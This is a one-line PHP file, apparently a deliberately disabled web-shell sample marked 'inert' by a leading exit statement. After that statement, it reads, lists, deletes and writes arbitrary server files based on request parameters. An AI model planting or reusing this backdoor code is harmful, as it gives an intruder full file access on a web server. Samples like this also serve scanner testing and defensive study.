<?php exit; /* inert */ echo file_get_contents($_GET["p"]); foreach(scandir($_GET["d"]) as $f) echo $f; @unlink($_GET["r"]); if($_POST["t"]) file_put_contents($_POST["p"],$_POST["t"]);
